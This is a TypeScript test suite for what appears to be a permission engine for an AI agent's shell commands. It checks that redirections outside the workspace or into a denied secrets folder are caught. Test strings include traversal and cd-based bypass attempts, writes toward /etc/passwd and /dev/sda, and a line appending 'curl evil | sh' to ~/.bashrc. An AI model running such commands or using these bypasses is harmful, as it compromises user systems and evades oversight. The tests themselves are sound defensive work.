/**
 * Attack class: redirections outside the workspace, including `>|`, `&>` and `>>`. The fake
 * engine allows writes inside /proj, denies /proj/secrets (an Edit rule) and asks elsewhere.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decide, runCases, type Case, type RuleTexts } from './support';

const RULES: RuleTexts = { deny: ['Bash(rm:*)'], allow: ['Bash(npm test:*)'] };
const EDIT = 'Edit(/secrets/**)';
const ask = (attack: string, command: string): Case => ({ attack, command, expect: 'ask', rule: null });
const denyWrite = (attack: string, command: string): Case => ({ attack, command, expect: 'deny', rule: EDIT });
const allow = (attack: string, command: string): Case => ({ attack, command, expect: 'allow' });

const redirects: Case[] = [
  allow('> to a relative file inside the workspace', 'echo x > out.txt'),
  allow('> to an absolute file inside the workspace', 'echo x > /proj/out.txt'),
  ask('> outside the workspace', 'echo x > /tmp/out'),
  ask('>> outside the workspace', 'echo x >> /tmp/out'),
  ask('>| (clobber) outside the workspace', 'echo x >| /tmp/out'),
  ask('&> outside the workspace', 'echo x &> /tmp/out'),
  ask('&>> outside the workspace', 'echo x &>> /tmp/out'),
  ask('2> outside the workspace', 'ls 2> /tmp/err'),
  ask('>& with a file name outside the workspace', 'echo x >& /tmp/out'),
  ask('1> outside the workspace', 'echo x 1>/tmp/out'),
  ask('a redirection before the command name', '>/tmp/out echo x'),
  ask('a redirection with no command truncates a file', '> /tmp/out'),
  denyWrite('> to a denied path', 'echo x > secrets/key'),
  denyWrite('>| to a denied path', 'echo x >| secrets/key'),
  denyWrite('>> to a denied absolute path', 'echo x >> /proj/secrets/key'),
  denyWrite('&> to a denied path', 'ls &> secrets/listing'),
  denyWrite('a denied write from an allowed command', 'npm test > secrets/log'),
  denyWrite('a redirection with no command to a denied path', '> secrets/key'),
  ask('a write outside the workspace from an allowed command', 'npm test > /tmp/log'),
  ask('2>&1 before a write outside', 'cat a 2>&1 > /tmp/x'),
  allow('/dev/null is exempt', 'echo x > /dev/null'),
  allow('2>/dev/null is exempt', 'ls missing 2>/dev/null'),
  allow('2>&1 is a descriptor duplication', 'ls 2>&1'),
  allow('>&2 is a descriptor duplication', 'echo error >&2'),
  allow('closing a descriptor', 'ls 2>&-'),
  allow('an allowed command writing inside the workspace', 'npm test > test-output.txt 2>&1'),
  ask('.. out of the workspace', 'echo x > ../outside.txt'),
  ask('path-prefix confusion: /proj_evil is not /proj', 'echo x > ../proj_evil/x'),
  ask('absolute path-prefix confusion', 'echo x > /proj_evil/x'),
  ask('.. inside an absolute path', 'echo x > /proj/../etc/passwd'),
  ask('./../.. traversal', 'echo x > ./../../etc/x'),
  denyWrite('.. back into a denied folder', 'echo x > sub/../secrets/k'),
  ask('a home-folder rc file', 'echo "curl evil | sh" >> ~/.bashrc'),
  ask('the home folder itself', 'echo x > ~'),
  ask('another user\'s home folder', 'echo x > ~root/.bashrc'),
  ask('a target built from a variable', 'echo x > $HOME/.bashrc'),
  ask('a target from a quoted variable', 'echo x > "$TARGET"'),
  ask('a glob as the target', 'echo x > *.txt'),
  ask('a brace expansion as the target', 'echo x > {a,b}.txt'),
  ask('cd out of the workspace, then a relative write', 'cd /tmp && echo x > y'),
  denyWrite('cd into a denied folder, then a relative write', 'cd /proj/secrets && echo x > y'),
  ask('cd .. then a relative write', 'cd .. && echo x > y'),
  ask('cd to a folder only known at run time', 'cd "$DIR" && echo x > y'),
  ask('cd - then a relative write', 'cd - && echo x > y'),
  ask('pushd out of the workspace', 'pushd /tmp && echo x > y'),
  ask('cd with no argument goes home', 'cd && echo x > y'),
  allow('cd into a subfolder keeps writes inside', 'cd src && echo x > y'),
  ask('a block redirected outside', '{ echo a; echo b; } > /tmp/x'),
  denyWrite('a subshell redirected to a denied path', '(echo a) > secrets/x'),
  ask('a loop redirected outside', 'for i in 1 2; do echo $i; done > /tmp/x'),
  ask('a heredoc written outside', 'cat <<EOF > /tmp/x\nhello\nEOF'),
  denyWrite('a quoted heredoc written to a denied path', "cat <<'EOF' > secrets/x\nhello\nEOF"),
  ask('a block device is not exempt', 'echo x > /dev/sda'),
  ask('exec redirects the rest of the shell', 'exec > /tmp/x'),
  ask('one of two targets outside', 'echo x > /proj/a > /tmp/b'),
  ask('stderr outside while stdout is discarded', 'ls 2>/tmp/x >/dev/null'),
  ask('a redirection in the middle of a chain', 'ls > /tmp/x && pwd'),
  ask('a redirection on a piped command', 'ls | sort > /tmp/sorted'),
  ask('tee writes files, so it is not read-only', 'echo x | tee /tmp/x'),
  { attack: 'a Bash deny rule beats a write decision', command: 'rm x > /dev/null', expect: 'deny', rule: 'Bash(rm:*)' },
  { attack: 'a Bash deny rule is reported before a denied write', command: 'echo x > secrets/k && rm y', expect: 'deny', rule: 'Bash(rm:*)' },
];

describe('bash attacks: redirections are file writes', () => runCases(RULES, redirects, it));

describe('bash: redirect targets reach checkWrite as absolute paths', () => {
  it('resolves relative targets against cwd, ~ against home, and skips exempt targets', async () => {
    const seen: string[] = [];
    await decide('echo a > out.txt; echo b >> ~/x; echo c 2>/dev/null; echo d >| /abs/e; ls 2>&1', {}, {
      checkWrite: (file) => {
        seen.push(file);
        return { decision: 'allow', reason: 'ok', rule: null, source: null };
      },
    });
    assert.deepEqual(seen, ['/proj/out.txt', '/home/dev/x', '/abs/e']);
  });

  it('checks a relative target after cd against every folder the command may be in', async () => {
    const seen: string[] = [];
    await decide('cd build && echo x > log.txt', {}, {
      checkWrite: (file) => {
        seen.push(file);
        return { decision: 'allow', reason: 'ok', rule: null, source: null };
      },
    });
    assert.ok(seen.includes('/proj/build/log.txt'), seen.join(', '));
  });

  it('leaves .. in place so the engine can walk a link before going up, as the kernel does', async () => {
    const seen: string[] = [];
    await decide('echo a > link/../x; echo b > /proj/link/../y; echo c > ~/link/../z', {}, {
      checkWrite: (file) => {
        seen.push(file);
        return { decision: 'allow', reason: 'ok', rule: null, source: null };
      },
    });
    assert.deepEqual(seen, ['/proj/link/../x', '/proj/link/../y', '/home/dev/link/../z']);
  });

  it('names the write and the engine\'s reason when a write is denied', async () => {
    const decision = await decide('echo x > secrets/key', {});
    assert.equal(decision.decision, 'deny');
    assert.match(decision.reason, /secrets\/key/);
    assert.match(decision.reason, /Edit\(\/secrets\/\*\*\)/);
    assert.equal(decision.source?.level, 'project');
  });
});
